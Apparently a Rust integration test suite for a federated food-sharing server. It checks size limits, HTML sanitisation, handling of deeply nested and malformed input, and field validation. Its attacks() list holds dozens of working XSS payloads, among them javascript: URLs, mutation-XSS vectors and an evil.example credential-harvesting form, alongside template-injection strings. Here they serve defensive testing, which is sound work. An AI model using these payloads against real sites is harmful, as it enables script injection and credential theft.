//! What stands in what comes in: how much, which HTML, which numbers and words.

use crate::peer::{PUBLIC, Peer};
use crate::support::browser::{Browser, with_password};
use crate::support::client::Visitor;
use crate::words::mention;
use crate::world::World;
use reqwest::Method;
use serde_json::{Value, json};
use std::time::{Duration, Instant};

/// As much text as is read, in bytes.
const TEXT_MAX: usize = 150_000;

async fn rosa(world: &World) -> (Visitor, String) {
    world.place.member("rosa").await;
    (Visitor::member(&world.place, "rosa").await, world.place.addresses.member("rosa").to_string())
}

fn posts(world: &World) -> Vec<String> {
    world.place.database.lines("SELECT content AS line FROM statuses ORDER BY id")
}

#[tokio::test(flavor = "multi_thread")]
async fn refusal_21_more_mentions_tags_pictures_and_text_than_anybody_needs() {
    let world = World::start().await;
    let (peer, database) = (&world.peer, &world.place.database);
    let (_, whom) = rosa(&world).await;
    let post = |slug: &str, html: &str, tags: Vec<Value>| {
        let mut note = mention(peer, "ana", slug, html, &whom);
        note["tag"].as_array_mut().expect("a list").extend(tags);
        peer.activity("ana", "Create", slug, note)
    };
    let mentions = |how_many: usize| -> Vec<Value> {
        let one =
            |number| json!({"type": "Mention", "href": peer.at(&format!("/users/{number}")), "name": "@somebody"});
        (0..how_many).map(one).collect()
    };
    let tags = |how_many: usize| -> Vec<Value> {
        let one = |number| json!({"type": "Hashtag", "href": peer.at(&format!("/tags/{number}")), "name": format!("#t{number}")});
        (0..how_many).map(one).collect()
    };
    // Rosa is one of them.
    world.accepted(&post("mentions", "<p>fifty</p>", mentions(49))).await;
    world.refused(&post("one-more", "<p>fifty-one</p>", mentions(50))).await;
    world.refused(&post("thousands", "<p>thousands</p>", mentions(3_000))).await;

    let kept = |slug: &str| {
        let status = format!("SELECT id FROM statuses WHERE ap_id = '{}'", peer.at(&format!("/n/{slug}")));
        database.number(&format!("SELECT count(*) AS n FROM status_tags WHERE status_id = ({status})"))
    };
    // The mention of rosa is one of the hundred.
    world.accepted(&post("tags", "<p>tags</p>", tags(99))).await;
    world.accepted(&post("more-tags", "<p>more tags</p>", tags(500))).await;
    assert_eq!((kept("tags"), kept("more-tags")), (99, 99), "what is more is cut off");

    // A text that is whole; one byte more; and the same in a listing, and in another language.
    let most = format!("<p>{}</p>", "a".repeat(TEXT_MAX - 7));
    assert_eq!(most.len(), TEXT_MAX);
    world.accepted(&post("text", &most, Vec::new())).await;
    world.refused(&post("more-text", &format!("{most}a"), Vec::new())).await;
    let listing = |slug: &str, html: &str| {
        let mut listing = peer.listing("ana", slug, 1, "Apples");
        (listing["content"], listing["contentMap"]["en"]) = (json!(html), json!(html));
        peer.activity("ana", "Create", &format!("listing-{slug}"), listing)
    };
    world.accepted(&listing("text", &most)).await;
    world.refused(&listing("more-text", &format!("{most}a"))).await;

    // Three pictures, four, five, or a hundred: it comes with four at most, and none of them is asked for so far.
    let pictures_of = |slug: &str| {
        let status = format!("SELECT id FROM statuses WHERE ap_id = '{}'", peer.at(&format!("/n/{slug}")));
        database.number(&format!("SELECT count(*) AS n FROM media WHERE status_id = ({status})"))
    };
    for (slug, how_many, kept) in [("three", 3, 3), ("four", 4, 4), ("five", 5, 4), ("hundred", 100, 4)] {
        let mut pictures = post(slug, "<p>pictures</p>", Vec::new());
        let picture = |number: usize| {
            let url = peer.at(&format!("/media/{number}.png"));
            json!({"type": "Image", "mediaType": "image/png", "url": url, "name": "A"})
        };
        pictures["object"]["attachment"] = (0..how_many).map(picture).collect();
        world.accepted(&pictures).await;
        assert_eq!(pictures_of(slug), kept, "{slug}");
    }
    assert_eq!(peer.asked("/media/0.png"), 0);
    // Nor is anything for more people than anybody writes to.
    let mut to_all = post("to-all", "<p>all</p>", Vec::new());
    to_all["object"]["to"] = (0..301).map(|number| json!(peer.at(&format!("/users/{number}")))).collect();
    world.refused(&to_all).await;
}

/// What runs, loads, covers, leads astray or breaks out, in as many ways as are known to have worked somewhere.
fn attacks() -> Vec<String> {
    let mut all: Vec<String> = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/x>alert(1)</script>",
        "<script\n>alert(1)</script\n>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<img src=x onerror=alert(1)>",
        "<img src=`x` onerror=alert(1)>",
        "<img/src/onerror=alert(1)>",
        "<img src=\"x\" onerror\n=alert(1)>",
        "<image src=x onerror=alert(1)>",
        "<img src=http://evil.example/track.png>",
        "<img srcset=\"http://evil.example/a 1x\">",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"data:text/html,x\">",
        "<applet code=x></applet>",
        "<base href=\"http://evil.example/\">",
        "<link rel=stylesheet href=http://evil.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
        "<style>*{background:url(http://evil.example/)}</style>",
        "<style>@import 'http://evil.example/x.css';</style>",
        "<p style=\"position:fixed;top:0;left:0\">x</p>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<form action=http://evil.example/><input name=password><button>x</button></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)>",
        "<textarea autofocus onfocus=alert(1)></textarea>",
        "<details open ontoggle=alert(1)>x</details>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<keygen autofocus onfocus=alert(1)>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<template><script>alert(1)</script></template>",
        "<xmp><script>alert(1)</script></xmp>",
        "<plaintext><script>alert(1)</script>",
        "<title><script>alert(1)</script></title>",
        "<textarea><script>alert(1)</script></textarea>",
        "<!--><script>alert(1)</script>-->",
        "<!-- --!><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "<p onclick=alert(1)>x</p>",
        "<p ONMOUSEOVER=alert(1)>x</p>",
        "<p\u{0}onclick=alert(1)>x</p>",
        "<p/onclick=alert(1)>x</p>",
        "<a onclick=alert(1) href=https://a.example>x</a>",
        "<a href=https://a.example target=_top id=x name=y class=evil>x</a>",
        "<span class=\"invisible evil\" id=top>x</span>",
        "<p class=modal>x</p>",
        "<a href=\"//evil.example/\">x</a>",
        "<a href=\"/api/v1/x\">x</a>",
        "<a href=\"#x\">x</a>",
        "<<script>alert(1);//<</script>",
        "\"><script>alert(1)</script>",
        "'><img src=x onerror=alert(1)>",
        "</p></div></body><script>alert(1)</script>",
        "{{7*7}}",
        "${alert(1)}",
        "<p>{% include 'x' %}</p>",
        "<table><td background=\"javascript:alert(1)\">x</td></table>",
        "<frameset onload=alert(1)>",
    ]
    .map(str::to_owned)
    .to_vec();
    for address in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "java\u{0}script:alert(1)",
        "\u{1}javascript:alert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;avascript:alert(1)",
        "&#0000106avascript:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "javascript:alert(1)//https://a.example",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "file:///etc/passwd",
        "blob:https://a.example/x",
        "view-source:x",
        "feed:javascript:alert(1)",
        "ms-settings:x",
        "intent://x",
    ] {
        all.push(format!("<a href=\"{address}\">x</a>"));
    }
    all
}

/// The tags of a text that was cleaned, each with its attributes; everything else in it is escaped.
fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut found = Vec::new();
    for part in html.split('<').skip(1) {
        let (inside, after) = part.split_once('>').unwrap_or_else(|| panic!("an open tag: {html}"));
        assert!(!after.contains('>'), "a bare >: {html}");
        let inside = inside.trim_start_matches('/');
        let (name, mut rest) = inside.split_once(' ').unwrap_or((inside, ""));
        let mut attributes = Vec::new();
        while let Some((key, value)) = rest.split_once("=\"") {
            let (value, next) = value.split_once('"').unwrap_or_else(|| panic!("an open value: {html}"));
            attributes.push((key.trim().to_owned(), value.to_owned()));
            rest = next;
        }
        assert!(rest.trim().is_empty(), "an attribute without a value: {html}");
        found.push((name.to_owned(), attributes));
    }
    found
}

/// Nothing is left in a text but what posts need.
fn is_clean(html: &str) {
    const TAGS: [&str; 17] = [
        "p",
        "br",
        "span",
        "a",
        "del",
        "s",
        "pre",
        "blockquote",
        "code",
        "b",
        "strong",
        "u",
        "i",
        "em",
        "ul",
        "ol",
        "li",
    ];
    for (name, attributes) in tags(html) {
        assert!(TAGS.contains(&name.as_str()), "<{name}> in {html}");
        for (key, value) in attributes {
            let right = match (name.as_str(), key.as_str()) {
                (_, "lang" | "dir") => true,
                ("a", "href") => value.starts_with("https://") || value.starts_with("http://"),
                ("a", "rel") => value == "nofollow noopener noreferrer",
                ("a" | "span", "class") => !value.contains("evil"),
                ("ol", "start" | "reversed") => true,
                _ => false,
            };
            assert!(right, "{key}=\"{value}\" in {html}");
        }
    }
}

/// The tags of a page of ours: each without what stands in quotes, and with the value of each attribute. In what was written
/// by others there is no `<` that is not escaped.
fn tags_of_page(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let tag = |part: &str| {
        let (mut bare, mut values) = (String::new(), Vec::new());
        let mut pieces = part.split('>').next().unwrap_or_default().split('"');
        while let Some(piece) = pieces.next() {
            bare.push_str(piece);
            if let Some(value) = pieces.next() {
                let key = piece.trim_end_matches('=').split_whitespace().last().unwrap_or_default();
                values.push((key.to_owned(), value.to_owned()));
            }
        }
        (bare, values)
    };
    html.split('<').skip(1).map(tag).collect()
}

/// Nothing in a page of ours runs, and nothing is loaded but from here.
fn is_clean_page(path: &str, html: &str, base: &str) {
    const NEVER: [&str; 9] = ["svg", "math", "iframe", "object", "embed", "base", "style", "video", "audio"];
    for (bare, values) in tags_of_page(&html.to_lowercase()) {
        let name = bare.split(|c: char| !c.is_ascii_alphanumeric()).next().unwrap_or_default();
        assert!(!NEVER.contains(&name), "<{bare}> in {path}");
        let mut words = bare.split(|c: char| c.is_whitespace() || c == '/');
        assert!(!words.any(|word| word.starts_with("on") && word.contains('=')), "<{bare}> in {path}");
        for (key, value) in values {
            let value: String = value.chars().filter(|c| !c.is_whitespace()).collect();
            let right = match key.as_str() {
                "src" => value.starts_with("/static/") || value.starts_with("/media/") || value.starts_with(base),
                "href" | "action" | "formaction" => !value.contains("script:") && !value.starts_with("data:"),
                _ => true,
            };
            assert!(right, "{key}=\"{value}\" in {path}");
        }
    }
}

#[test]
fn a_page_that_is_not_clean_is_found_out() {
    let base = "http://riverside.localhost";
    is_clean_page("/", "<!doctype html><p title=\"&lt;svg onload=x&gt;\">on=1 <a href=\"/board\">x</a>", base);
    for bad in [
        "<svg/onload=x>",
        "<p onclick=\"x\">",
        "<img/src/onerror=x>",
        "<script src=\"https://evil.example/x.js\">",
        "<a href=\"java\nscript:x\">",
        "<p title=\"\"><iframe>",
    ] {
        assert!(std::panic::catch_unwind(|| is_clean_page("/", bad, base)).is_err(), "{bad}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn refusal_22_nothing_runs_loads_or_leads_astray_wherever_it_is_shown() {
    let world = World::start().await;
    let (place, peer) = (&world.place, &world.peer);
    let (visitor, whom) = rosa(&world).await;
    let good = "<p>Hello <a href=\"https://a.example/\" rel=\"nofollow noopener noreferrer\">there</a><br>you</p>";
    world.accepted(&peer.activity("ana", "Create", "good", mention(peer, "ana", "good", good, &whom))).await;
    assert_eq!(posts(&world), [good], "the valid twin is as it was written");

    let attacks = attacks();
    for (number, attack) in attacks.iter().enumerate() {
        let slug = format!("attack-{number}");
        let mut note = mention(peer, "ana", &slug, attack, &whom);
        note["summary"] = json!(attack);
        world.accepted(&peer.activity("ana", "Create", &slug, note)).await;
        let mut listing = peer.listing("ana", &slug, 1, attack);
        (listing["content"], listing["potluck:listing"]["body"]) = (json!(attack), json!(attack));
        listing["potluck:listing"]["accessNotes"] = json!(attack);
        assert_eq!(peer.send(place, &peer.activity("ana", "Create", &format!("listing-{number}"), listing)).await, 202);
        let mut ana = peer.actor("ana");
        (ana["summary"], ana["name"]) = (json!(attack), json!(attack));
        assert_eq!(peer.send(place, &peer.activity("ana", "Update", &format!("actor-{number}"), ana)).await, 202);
        if number % 20 == 0 || number == attacks.len() - 1 {
            world.snapshot().await;
            place.database.lines("SELECT summary AS line FROM actors").iter().for_each(|summary| is_clean(summary));
        }
    }
    let posts = posts(&world);
    assert_eq!(posts.len(), attacks.len() + 1);
    posts.iter().for_each(|html| is_clean(html));
    // What is shown as HTML by the interface for apps, and every page.
    let notifications = visitor.ask(Method::GET, "/api/v1/notifications?limit=80", &[], Vec::new()).await.expect(200);
    let notifications = notifications.as_array().expect("a list");
    assert!(notifications.len() > 30);
    for notification in notifications {
        is_clean(notification["status"]["content"].as_str().expect("content"));
        is_clean(notification["account"]["note"].as_str().expect("a note"));
    }
    for page in ["/", "/about", "/@rosa", "/tags/produce"] {
        let page = visitor.page(page).await;
        assert!(page.status == 200 && page.header("content-security-policy").contains("default-src 'none'"));
        // The one that lets a browser keep the page is a file of ours.
        let text = page.text.to_lowercase().replace("<script src=\"/static/register.js\" defer></script>", "");
        for bad in ["<script", "<img src=x", "onerror=alert", "javascript:", "<svg", "<iframe"] {
            assert!(!text.contains(bad), "{bad} in {}", page.text);
        }
    }
    // A member reads the offers with all that they say: on the board, and each on a page of its own.
    with_password(place, "rosa").await;
    let browser = Browser::new(place);
    browser.sign_in("rosa").await;
    let mut paths = vec!["/board".to_owned()];
    let slugs = place.database.lines("SELECT slug AS line FROM listings WHERE on_board ORDER BY id");
    paths.extend(slugs.iter().map(|slug| format!("/listings/{slug}")));
    let mut shown = 0;
    for path in &paths {
        let page = browser.open(path).await;
        assert!(page.status == 200 && page.header("content-security-policy").contains("default-src 'none'"), "{path}");
        shown += usize::from(page.text.contains("alert(1)"));
        is_clean_page(path, &page.text, &place.base);
    }
    assert!(shown > 10, "attacks are shown as the words that they are, on {shown} of {} pages", paths.len());
}

#[tokio::test(flavor = "multi_thread")]
async fn refusal_22_what_is_deep_or_tangled_is_soon_worked_and_never_a_500() {
    let world = World::start().await;
    let (place, peer) = (&world.place, &world.peer);
    let (visitor, whom) = rosa(&world).await;
    world.accepted(&peer.activity("ana", "Create", "good", mention(peer, "ana", "good", "<p>Hello</p>", &whom))).await;
    let full = |part: &str| part.repeat(TEXT_MAX / part.len());
    let half = |part: &str| part.repeat(TEXT_MAX / 2 / part.len());
    // Formatting that is never closed is opened again in each paragraph: a few bytes become very many.
    let tangled: String = (0..5_000).map(|number| format!("<b id={number}>")).collect();
    let texts = [
        full("<b>"),
        full("<blockquote>"),
        full("<p><b>"),
        full("<ul><li>"),
        full("<a href=https://a.example>"),
        full("<table><tr><td>"),
        full("<svg><desc>"),
        full("</p>"),
        full("<!--"),
        full("&#x1F600;"),
        full("&amp"),
        format!("{}{}", half("<b>"), half("<p>")),
        format!("{tangled}{}", "<p>".repeat((TEXT_MAX - tangled.len()) / 3)),
        format!("{tangled}{}", "<p>x</p>".repeat((TEXT_MAX - tangled.len()) / 8)),
    ];
    for (number, text) in texts.iter().enumerate() {
        let slug = format!("deep-{number}");
        let start = Instant::now();
        let note = mention(peer, "ana", &slug, text, &whom);
        assert_eq!(peer.send(place, &peer.activity("ana", "Create", &slug, note)).await, 202);
        world.worked(&peer.activity("ana", "Create", &slug, Value::Null)).await;
        let took = start.elapsed();
        println!("{slug}: {took:?}");
        assert!(took < Duration::from_secs(20), "{slug} took {took:?}");
    }
    let largest = posts(&world).iter().map(String::len).max().unwrap_or_default();
    assert!(largest < 2 * TEXT_MAX, "{largest} bytes were made of {TEXT_MAX}");
    let answer = visitor.ask(Method::GET, "/api/v1/notifications?limit=80", &[], Vec::new()).await;
    assert_eq!(answer.status, 200);

    // Whatever an inbox is given, it says what is wrong with it: 4xx, and nothing is kept.
    let before = world.snapshot().await;
    let stranger = Visitor::stranger(place);
    let inbox = place.addresses.shared_inbox();
    let odd = [
        "",
        "null",
        "true",
        "0",
        "1e999",
        "-0",
        "\"\"",
        "[]",
        "[[]]",
        "{}",
        "{\"a\":1",
        "{\"a\":}",
        "{\"id\":1e308}",
        "NaN",
        "{\"id\":NaN}",
        "{\"id\":\"\",\"type\":\"Create\",\"actor\":\"\"}",
        "{\"id\":null,\"type\":null,\"actor\":null}",
        "{\"id\":\"https://a.example/1\",\"type\":[\"Create\"],\"actor\":\"https://a.example/u\"}",
        "{\"id\":\"https://a.example/1\",\"type\":\"Create\",\"actor\":[]}",
        "{\"id\":\"https://a.example/1\",\"type\":\"Create\",\"actor\":{}}",
        "{\"id\":\"https://a.example/1\",\"type\":\"Create\",\"actor\":\"https://a.example/u\",\"to\":{\"id\":[]}}",
        "{\"id\":\"https://a.example/1\",\"type\":\"\\ud800\",\"actor\":\"https://a.example/u\"}",
        "\u{feff}{}",
        "{\"\\u0000\":0}",
    ];
    for body in odd {
        let headers = [("content-type", "application/activity+json")];
        let answer = stranger.ask(Method::POST, inbox.path(), &headers, body.into()).await;
        assert!((400..500).contains(&answer.status), "{body}: {} {}", answer.status, answer.text);
    }
    world.unchanged(&before, &[]).await;
    // Nor is anything that is well signed and odd: it is refused when it is worked. (An `Undo` or `Delete` of what may still
    // come is remembered, and that is all.)
    for (number, object) in [
        json!(null), json!([]), json!({}), json!(7), json!("https://"), json!({"id": 7}), json!({"type": "Note"}), json!([[]]),
        json!({"id": peer.at("/n/odd"), "type": ["Note"], "attributedTo": peer.id("ana")}),
        json!({"id": peer.at("/n/odd"), "type": "Note", "attributedTo": [[]], "to": [PUBLIC]}),
        json!({"id": peer.at("/n/odd"), "type": "Note", "attributedTo": peer.id("ana"), "content": {"en": []}}),
        json!({"id": peer.at("/n/odd"), "type": "Note", "attributedTo": peer.id("ana"), "content": "x", "published": "9999-12-31T23:59:60Z"}),
        json!({"id": peer.at("/n/odd"), "type": "Note", "attributedTo": peer.id("ana"), "content": "x", "published": "-0001-01-01T00:00:00Z"}),
    ]
    .into_iter()
    .enumerate()
    {
        for kind in ["Create", "Update", "Announce", "Follow", "Accept", "Offer", "Move", "Flag", "Add", "Nonsense"] {
            let status = peer.send(place, &peer.activity("ana", kind, &format!("odd-{number}"), object.clone())).await;
            assert!(status == 202 || (400..500).contains(&status), "{kind} {object}: {status}");
        }
    }
    let after = world.snapshot().await;
    let came = before.changes_to(&after, &["received", crate::world::HEARD]);
    assert!(came.is_empty(), "{came:?}");
}

/// A listing of ana's with one thing changed.
fn changed(peer: &Peer, slug: &str, path: &str, value: Value) -> Value {
    let mut listing = peer.listing("ana", slug, 1, "Apples");
    listing["location"] = json!({"type": "Place", "name": "Near the library", "latitude": 40.7, "longitude": -73.98, "radius": 1000, "units": "m"});
    listing["potluck:listing"]["diet"] = json!(["halal"]);
    listing["potluck:listing"]["allergens"] = json!({"declared": true, "contains": ["nuts"]});
    if !path.is_empty() {
        *listing.pointer_mut(path).unwrap_or_else(|| panic!("there is no {path}")) = value;
    }
    peer.activity("ana", "Create", slug, listing)
}

#[tokio::test(flavor = "multi_thread")]
async fn refusal_23_numbers_words_and_places_are_what_they_can_be() {
    let world = World::start().await;
    let (place, peer) = (&world.place, &world.peer);
    world.accepted(&changed(peer, "good", "", Value::Null)).await;
    let many = |how_many: usize| json!(vec!["nuts"; how_many]);
    let refused = [
        (
            "/publishes/resourceQuantity/hasNumericalValue",
            vec![
                json!("NaN"),
                json!("inf"),
                json!("-1"),
                json!("1e308"),
                json!(1e308),
                json!("1000001"),
                json!("1.2345"),
                json!(null),
                json!("٣"),
                json!("0x10"),
                json!({}),
            ],
        ),
        ("/publishes/resourceQuantity/hasUnit", vec![json!(""), json!("a".repeat(81)), json!(7)]),
        ("/purpose", vec![json!("sale"), json!("OFFER"), json!(null), json!(1)]),
        ("/location/latitude", vec![json!(90.1), json!(-91), json!(1e308), json!("40")]),
        ("/location/longitude", vec![json!(180.1), json!(-1e308), json!([])]),
        ("/location/radius", vec![json!(-1), json!(1e308), json!(100_001)]),
        ("/potluck:listing/status", vec![json!("draft"), json!("erased"), json!("free!"), json!(null)]),
        ("/potluck:listing/category", vec![json!(""), json!("\u{202e}"), json!("a".repeat(81)), json!(["produce"])]),
        ("/potluck:listing/unitLabel", vec![json!("a".repeat(81))]),
        ("/potluck:listing/diet", vec![many(51), json!(["a".repeat(81)]), json!([{}])]),
        ("/potluck:listing/allergens/contains", vec![many(51), json!([""]), json!([7])]),
        ("/potluck:listing/revision", vec![json!(0), json!(i64::MAX), json!(u64::MAX), json!(1e308)]),
        ("/endTime", vec![json!("9999-12-31T00:00:00Z"), json!("1066-10-14T00:00:00Z"), json!(1e308), json!("soon")]),
        ("/updated", vec![json!("2201-01-01T00:00:00Z")]),
    ];
    for (path, values) in refused {
        for (number, value) in values.into_iter().enumerate() {
            let slug = format!("{}-{number}", path.replace(['/', ':'], "-"));
            println!("{path} {value}: {}", world.refused(&changed(peer, &slug, path, value.clone())).await);
        }
    }
    // What is no JSON at all, as NaN is none, is not even read.
    let before = world.snapshot().await;
    // 1e999 is JSON, though no number that fits: it is read far enough to see that its signature is not for it.
    for (number, status) in [("NaN", 400), ("Infinity", 400), ("01", 400), ("+1", 400), ("1e999", 401)] {
        let activity = changed(peer, "raw", "/location/latitude", json!("RAW"));
        let mut letter = peer.sign(place, &activity, ("ana", potluck::federation::signature::Way::Cavage), place.now());
        let body = String::from_utf8(letter.body).expect("text").replace("\"RAW\"", number);
        letter.body = body.into_bytes();
        assert_eq!(peer.post(letter).await, status, "{number}");
    }
    world.unchanged(&before, &[]).await;

    // Words for people lose what turns them around, and what is too long of them.
    let turn = |text: &str| format!("\u{202e}{text}\u{2066}\u{0}\u{7}\u{200b}");
    let mut turned = changed(peer, "turned", "/name", json!(turn("Pears")));
    turned["object"]["location"]["name"] = json!(turn("Near the church"));
    turned["object"]["potluck:listing"]["body"] = json!(turn("Sweet"));
    turned["object"]["potluck:listing"]["accessNotes"] = json!(turn("Ring"));
    turned["object"]["potluck:listing"]["diet"] = json!([turn("halal")]);
    world.accepted(&turned).await;
    world.accepted(&changed(peer, "long", "/name", json!("é".repeat(10_000)))).await;
    let rows =
        place.database.lines("SELECT title || ' ' || details || ' ' || coalesce(place_name, '') AS line FROM listings");
    assert_eq!(rows.len(), 3);
    for row in rows {
        let bad =
            |c: char| matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}') || (c.is_control() && c != '\n');
        assert!(
            !row.contains(bad) && !row.contains("\\u20") && !row.contains("\\u0000") && !row.contains("202e"),
            "{row:?}"
        );
        assert!(row.chars().count() < 2_000, "{}", row.len());
    }
    // And so do the names of accounts.
    let mut ana = peer.actor("ana");
    (ana["name"], ana["summary"]) = (json!(turn("Ana")), json!(turn("<p>Hi</p>")));
    world.accepted(&peer.activity("ana", "Update", "ana", ana)).await;
    let names = place.database.lines(&format!("SELECT name AS line FROM actors WHERE ap_id = '{}'", peer.id("ana")));
    assert!(names[0].starts_with("Ana") && !names[0].contains(['\u{202e}', '\u{2066}', '\u{7}']), "{names:?}");
    for (number, (field, value)) in [
        ("preferredUsername", json!("")),
        ("preferredUsername", json!(7)),
        ("inbox", json!("javascript:x")),
        ("id", json!(peer.id("bob"))),
        ("publicKey", json!({})),
        ("type", json!("Potato")),
    ]
    .into_iter()
    .enumerate()
    {
        let mut ana = peer.actor("ana");
        ana[field] = value;
        world.refused(&peer.activity("ana", "Update", &format!("odd-ana-{number}"), ana)).await;
    }
}
